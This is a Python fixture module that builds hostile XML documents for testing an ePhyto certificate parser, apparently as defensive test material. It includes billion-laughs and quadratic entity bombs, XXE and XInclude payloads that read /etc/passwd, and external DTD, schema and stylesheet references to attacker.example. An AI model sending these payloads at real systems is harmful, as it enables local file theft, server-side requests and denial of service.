"""Hostile ePhyto documents: each builder returns the bytes an attacker (or a broken client) could send."""

from xml.sax.saxutils import escape

SPS = "urn:un:unece:uncefact:data:standard:SPSCertificate:17"
RAM = "urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:21"
HUB_ENTITIES = "http://ephyto.ippc.int/HUB.Entities"


def _certificate(entity_use: str = "") -> str:
    """A minimal SPSCertificate root whose ID holds `entity_use` (an entity reference, when there is one)."""
    return (
        f'<rsm:SPSCertificate xmlns:rsm="{SPS}" xmlns:ram="{RAM}">'
        f"<rsm:SPSExchangedDocument><ram:ID>{entity_use}</ram:ID></rsm:SPSExchangedDocument>"
        "</rsm:SPSCertificate>"
    )


def billion_laughs(levels: int = 10) -> bytes:
    """Nested entities, each ten of the one below: 10**levels copies of "lol" if anything expands them."""
    declarations = ['<!ENTITY lol0 "lol">']
    for level in range(1, levels):
        declarations.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    subset = "\n  ".join(declarations)
    return f'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n  {subset}\n]>\n{_certificate(f"&lol{levels - 1};")}'.encode()


def external_entity(system_id: str = "file:///etc/passwd") -> bytes:
    """XXE: an external general entity whose replacement text would be a local file or a URL's answer."""
    return f'<?xml version="1.0"?>\n<!DOCTYPE c [<!ENTITY xxe SYSTEM "{system_id}">]>\n{_certificate("&xxe;")}'.encode()


def external_dtd(system_id: str = "http://attacker.example/evil.dtd") -> bytes:
    """A DOCTYPE that points at an external DTD (out-of-band exfiltration or server-side request)."""
    return f'<?xml version="1.0"?>\n<!DOCTYPE rsm:SPSCertificate SYSTEM "{system_id}">\n{_certificate()}'.encode()


def parameter_entity(system_id: str = "file:///etc/passwd") -> bytes:
    """A parameter entity pulled into the internal subset: the classic blind-XXE building block."""
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE c [<!ENTITY % remote SYSTEM "{system_id}"> %remote;]>\n{_certificate()}'
    ).encode()


def oversize(size: int) -> bytes:
    """A well-formed document of at least `size` bytes (a long comment): only its size is wrong."""
    return f"<!--{'x' * size}-->{_certificate()}".encode()


def deep_nesting(depth: int) -> bytes:
    """`depth` nested elements: a stack and memory exhauster for recursive readers."""
    return b"<a>" * depth + b"</a>" * depth


def entity_in_envelope_content() -> bytes:
    """A hub Envelope that is clean itself but whose Content (a second XML document) declares an external entity."""
    inner = external_entity().decode()
    return (
        f'<h:Envelope xmlns:h="{HUB_ENTITIES}"><h:From>AR</h:From><h:To>EC</h:To>'
        "<h:CertificateType>851</h:CertificateType><h:CertificateStatus>70</h:CertificateStatus>"
        "<h:NPPOCertificateNumber>123ABC</h:NPPOCertificateNumber>"
        f"<h:Content>{escape(inner)}</h:Content></h:Envelope>"
    ).encode()


def garbage() -> bytes:
    """Bytes that are not text at all (a PNG header and some random-looking binary)."""
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe\xc3\x28\xa0\xa1"


def latin1_without_declaration() -> bytes:
    """Text in ISO-8859-1 that does not say so: "é" as the single byte 0xE9."""
    return _certificate("Caf\xe9").encode("latin-1")


def truncated(document: bytes) -> bytes:
    """The first half of a document, as a dropped connection leaves it."""
    return document[: len(document) // 2]


def quadratic_blowup(size: int = 50_000, uses: int = 50_000) -> bytes:
    """One large internal entity used many times: no nesting, but size x uses bytes if expanded."""
    return f'<!DOCTYPE c [<!ENTITY x "{"x" * size}">]>{_certificate("&x;" * uses)}'.encode()


def xinclude(href: str = "file:///etc/passwd") -> bytes:
    """An XInclude element: a reader that processes XInclude would pull the file into the certificate number."""
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{href}" parse="text"/>'
    return _certificate(include).encode()


def schema_location(url: str = "http://attacker.example/evil.xsd") -> bytes:
    """xsi:schemaLocation pointing outside: a validating reader that fetches schemas would call it."""
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    return (
        _certificate()
        .replace("<rsm:SPSCertificate ", f'<rsm:SPSCertificate {xsi} xsi:schemaLocation="{SPS} {url}" ', 1)
        .encode()
    )


def stylesheet_instruction(url: str = "http://attacker.example/evil.xsl") -> bytes:
    """An xml-stylesheet processing instruction: a reader that applies it would fetch and run XSLT."""
    return f'<?xml-stylesheet type="text/xsl" href="{url}"?>{_certificate()}'.encode()


def declared_encoding(name: str = "UTF-7") -> bytes:
    """A document declaring an encoding whose decoders have hidden markup from filters (UTF-7's +ADw-)."""
    return f'<?xml version="1.0" encoding="{name}"?>{_certificate()}'.encode()


def soap_with_entity() -> bytes:
    """A SOAP envelope (the Hub's transport) that declares an external entity and uses it in its body."""
    return (
        b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&x;</soap:Body>'
        b"</soap:Envelope>"
    )


def long_name(length: int = 1_000_000) -> bytes:
    """An element name of `length` characters: echoed into an error message, it would flood logs and responses."""
    return f"<{'n' * length}/>".encode()


def many_attributes(count: int = 100_000) -> bytes:
    """One element with `count` attributes: hash-table and memory pressure inside a size limit."""
    return ("<a " + " ".join(f'a{i}="x"' for i in range(count)) + "/>").encode()


def many_elements(count: int = 300_000) -> bytes:
    """A flat document of `count` empty elements: no depth, but a tree too large for memory."""
    return b"<a>" + b"<b/>" * count + b"</a>"


def nul_byte() -> bytes:
    """A NUL inside UTF-8 text: not allowed anywhere in XML 1.0."""
    return _certificate("123\x00ABC").encode()
